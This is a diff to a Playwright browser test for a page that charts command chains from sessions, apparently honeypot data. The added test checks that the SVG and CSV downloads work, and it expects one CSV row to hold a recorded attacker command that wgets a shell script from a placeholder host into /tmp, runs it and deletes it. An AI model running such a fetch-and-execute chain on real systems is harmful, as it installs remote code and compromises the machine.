@@ -6,7 +6,7 @@ import { join } from "node:path";
 import { pathToFileURL } from "node:url";
 import type { Page } from "playwright-core";
 import { main as chains } from "../../scripts/command-chains.ts";
-import { type Browser, CHROMIUM, fitsWindow, openBrowser, visit } from "../support/browser.ts";
+import { type Browser, chooseInMenu, CHROMIUM, fitsWindow, openBrowser, visit } from "../support/browser.ts";
 import { joinFleet } from "../support/copy-fleet.ts";
 
 const NAME = "chains in Chromium";
@@ -50,6 +50,21 @@ describe.skipIf(CHROMIUM === undefined)(
         },
         width,
       );
+    });
+
+    test("its menu saves the picture, and the chains with each command in full", async () => {
+      await withPage("chains", async page => {
+        const save = async (item: string) => {
+          const [file] = await Promise.all([page.waitForEvent("download"), chooseInMenu(page, "#chains", item)]);
+          return [file.suggestedFilename(), await Bun.file((await file.path())!).text()] as const;
+        };
+        const [picture, svg] = await save("[data-save=svg]");
+        expect([picture, svg.slice(0, 4)]).toEqual(["chains.svg", "<svg"]);
+        const [name, csv] = await save("[data-table=csv]");
+        const lines = csv.trimEnd().split(/\r?\n/);
+        expect([name, lines[0], lines.length]).toEqual(["chains.csv", "rank,sessions,share,commands", 26]);
+        expect(lines[2]).toEndWith('"grep PRETTY /etc/os-release → cd /tmp && wget -q http://<host>/kestrel.sh -O .k && sh .k; rm -f .k"');
+      });
     });
 
     test("on a phone it is said that the picture goes on sideways; on a wide screen there is nothing to say", async () => {
@@ -146,7 +161,7 @@ describe.skipIf(CHROMIUM === undefined)(
       await page.goto(urls.get("chains")!);
       expect(await page.locator(".step title").count()).toBe(await page.locator(".step").count());
       expect(await page.locator("#top tbody tr").count()).toBe(25);
-      expect(await page.locator(".script").isVisible()).toBe(false);
+      expect(await page.locator(".script").filter({ visible: true }).count()).toBe(0);
       await page.close();
     });
   },
